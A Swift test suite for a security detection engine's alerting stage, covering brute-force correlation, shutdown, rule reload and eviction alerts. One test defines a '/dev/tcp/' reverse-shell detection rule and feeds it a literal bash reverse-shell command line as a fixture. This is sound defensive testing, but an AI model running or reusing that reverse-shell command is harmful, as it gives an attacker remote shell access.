import DetectionEngine
import EventPipeline
import Logging
import SecurityModel
import Synchronization
import Testing

@Suite("Detection stage", .timeLimit(.minutes(10)))
struct DetectionStageTests {
    static let rules: RuleSet = {
        let result = RuleLoader.load([RuleSource(path: "quick.yml", text: """
            title: Failed login
            name: failed_login
            logsource: {product: secmon, service: activity}
            detection:
              selection: {action: LOGIN_FAILURE}
              condition: selection
            level: low
            ---
            title: Quick brute force
            id: Q-01
            correlation:
              type: event_count
              rules: [failed_login]
              group-by: [ip_address]
              timespan: 2s
              condition: {gt: 1}
            level: high
            """)])
        precondition(result.errors.isEmpty, "\(result.errors)")
        return result.ruleSet
    }()

    /// A clock the test moves by hand.
    final class ManualClock: Sendable {
        let micros = Mutex<Int64>(1_700_000_000_000_000)
        func now() -> Timestamp { Timestamp(microseconds: micros.withLock { $0 }) }
        func advance(seconds: Double) { micros.withLock { $0 += Int64(seconds * 1_000_000) } }
    }

    static func failure(_ n: Int, ip: String = "192.0.2.4") -> SecurityEvent {
        ActivityEvent(timestamp: Timestamp(microseconds: 0), ipAddress: ip, username: "anonymous", action: .loginFailure,
                      eventID: "ev-\(n)", attemptedUsername: "root").securityEvent
    }

    @Test("an alert is published when an event completes the condition, grows as events extend it, and closes on a tick after its window")
    func liveEpisode() async throws {
        let clock = ManualClock()
        let intake = EventIntake(budgetBytes: 1 << 20, now: clock.now)
        let sink = RecordingSink("memory")
        let bus = AlertBus(sinks: [sink], logger: Logger(label: "test"))
        // No timer ticks: only the test's.
        let stage = DetectionStage(rules: Self.rules, intake: intake, bus: bus, latenessSeconds: 0, tickSeconds: 3600,
                                   node: "node-1", logger: Logger(label: "test"))
        try await withServices([bus, stage]) {
            for n in 1...2 {
                var event = Self.failure(n)
                intake.submitStamped(&event)
            }
            // Published from the batch that completed it: no lateness hold, no tick needed.
            try await eventually { sink.latest.values.contains { $0.rule == "Q-01" } }
            let opened = try #require(sink.latest.values.first { $0.rule == "Q-01" })
            #expect(opened.status == .open)
            #expect(opened.eventCount == 2)
            #expect(opened.evidence == ["ev-1", "ev-2"])
            #expect(opened.entities == [Entity(.ip, "192.0.2.4")])
            #expect(opened.group == [.init(field: "ip_address", value: "192.0.2.4")])
            #expect(opened.node == "node-1")
            clock.advance(seconds: 0.5)
            var third = Self.failure(3)
            intake.submitStamped(&third)
            try await eventually { sink.latest[opened.id]?.eventCount == 3 }
            #expect(sink.latest[opened.id]?.eventCount == 3)
            #expect(sink.latest[opened.id]?.status == .open)
            // Quiet for longer than the window: a tick closes it.
            clock.advance(seconds: 5)
            intake.tick()
            try await eventually { sink.latest[opened.id]?.status == .closed }
            #expect(sink.latest[opened.id]?.status == .closed)
            #expect(sink.latest[opened.id]?.eventCount == 3)
            #expect(stage.statistics.openAlerts == 0)
        }
        #expect(stage.statistics.engine.events == 3)
        #expect(stage.statistics.engine.late == 0)
    }

    @Test("a single-event alert says what it is about: its event's entities (host, process, user, file)")
    func singleEventEntities() async throws {
        let rules = RuleLoader.load([RuleSource(path: "shell.yml", text: """
            title: Reverse shell
            name: H-T
            logsource: {product: linux, category: process_creation}
            detection:
              selection: {CommandLine|contains: /dev/tcp/}
              condition: selection
            level: critical
            """)])
        #expect(rules.errors.isEmpty)
        let intake = EventIntake(budgetBytes: 1 << 20)
        let sink = RecordingSink("memory")
        let bus = AlertBus(sinks: [sink], logger: Logger(label: "test"))
        let stage = DetectionStage(rules: rules.ruleSet, intake: intake, bus: bus, latenessSeconds: 0, tickSeconds: 3600,
                                   node: "n", logger: Logger(label: "test"))
        let entities = [Entity(.host, "web-1"), Entity(.process, "4242"), Entity(.user, "www-data"), Entity(.file, "/usr/bin/bash")]
        try await withServices([bus, stage]) {
            for (n, command) in ["ls -l", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"].enumerated() {
                var event = SecurityEvent(time: Timestamp(microseconds: 0), id: "0190a0b0-0000-7000-8000-00000000000\(n)", source: .processCreation,
                                          fields: [.init("CommandLine", .string(command)), .init("ProcessId", .int(4242))], entities: entities)
                intake.submitStamped(&event)
            }
            try await eventually { sink.latest.values.contains { $0.rule == "H-T" } }
        }
        let alert = try #require(sink.latest.values.first { $0.rule == "H-T" })
        #expect(alert.group.isEmpty && alert.eventCount == 1 && alert.evidence == ["0190a0b0-0000-7000-8000-000000000001"])
        #expect(alert.entities == entities)
    }

    @Test("graceful shutdown handles what is queued and closes every open alert")
    func shutdownCloses() async throws {
        let intake = EventIntake(budgetBytes: 1 << 20)
        let sink = RecordingSink("memory")
        let bus = AlertBus(sinks: [sink], logger: Logger(label: "test"))
        let stage = DetectionStage(rules: Self.rules, intake: intake, bus: bus, latenessSeconds: 0, tickSeconds: 3600,
                                   node: "n", logger: Logger(label: "test"))
        try await withServices([bus, stage]) {
            for n in 1...4 {
                var event = Self.failure(n, ip: "192.0.2.\(n % 2)")
                intake.submitStamped(&event)
            }
        }
        let alerts = sink.latest.values.filter { $0.rule == "Q-01" }
        #expect(alerts.count == 2)
        #expect(alerts.allSatisfy { $0.status == .closed && $0.eventCount == 2 })
        #expect(stage.statistics.engine.events == 4)
        #expect(intake.isIdle)
    }

    @Test("a reload takes effect behind the queued events, closes the open alerts of a changed correlation, and keeps the counters going")
    func reload() async throws {
        let intake = EventIntake(budgetBytes: 1 << 20)
        let sink = RecordingSink("memory")
        let bus = AlertBus(sinks: [sink], logger: Logger(label: "test"))
        let stage = DetectionStage(rules: Self.rules, intake: intake, bus: bus, latenessSeconds: 0, tickSeconds: 3600,
                                   node: "n", logger: Logger(label: "test"))
        let renamed = RuleLoader.load([RuleSource(path: "other.yml", text: """
            title: Failed login
            name: failed_login
            logsource: {product: secmon, service: activity}
            detection:
              selection: {action: LOGIN_FAILURE}
              condition: selection
            level: medium
            """)]).ruleSet
        try await withServices([bus, stage]) {
            for n in 1...2 {
                var event = Self.failure(n)
                intake.submitStamped(&event)
            }
            let summary = await stage.reload(renamed)
            #expect(summary == DetectionStage.ReloadSummary(rules: 1, closedAlerts: 1, applied: true, kept: [], reset: ["Q-01"]))
            var event = Self.failure(3)
            intake.submitStamped(&event)
            try await eventually { sink.latest.values.contains { $0.rule == "failed_login" } }
        }
        let q01 = sink.latest.values.filter { $0.rule == "Q-01" }
        #expect(q01.count == 1)
        #expect(q01.first?.status == .closed)
        #expect(q01.first?.eventCount == 2)
        // The new rule set raises single-event alerts for its own rule, from the third event on.
        let singles = sink.latest.values.filter { $0.rule == "failed_login" }
        #expect(singles.map(\.evidence) == [["ev-3"]])
        #expect(stage.rules.count == 1)
        #expect(stage.statistics.engine.events == 3)
    }

    @Test("evictions at the cap raise a meta-alert, open while they go on and closed once they stop")
    func evictionAlert() async throws {
        let clock = ManualClock()
        let intake = EventIntake(budgetBytes: 1 << 20, now: clock.now)
        let sink = RecordingSink("memory")
        let bus = AlertBus(sinks: [sink], logger: Logger(label: "test"))
        let stage = DetectionStage(rules: Self.rules, intake: intake, bus: bus, latenessSeconds: 0, tickSeconds: 3600,
                                   node: "n", limits: .init(maxGroupsPerCorrelation: 2), logger: Logger(label: "test"))
        try await withServices([bus, stage]) {
            for n in 1...5 {
                var event = Self.failure(n, ip: "192.0.2.\(n)")
                intake.submitStamped(&event)
            }
            try await eventually { sink.latest.values.contains { $0.rule == DetectionStage.evictionRule && $0.eventCount == 3 } }
            let meta = try #require(sink.latest.values.first { $0.rule == DetectionStage.evictionRule })
            #expect(meta.status == .open)
            #expect(meta.level == .high)
            #expect(meta.group == [.init(field: "rule", value: "Q-01")])
            #expect(stage.statistics.evictions == ["Q-01": 3])
            clock.advance(seconds: Double(DetectionStage.evictionQuietSeconds) + 1)
            intake.tick()
            try await eventually { sink.latest[meta.id]?.status == .closed }
            #expect(sink.latest[meta.id]?.status == .closed)
        }
    }
}
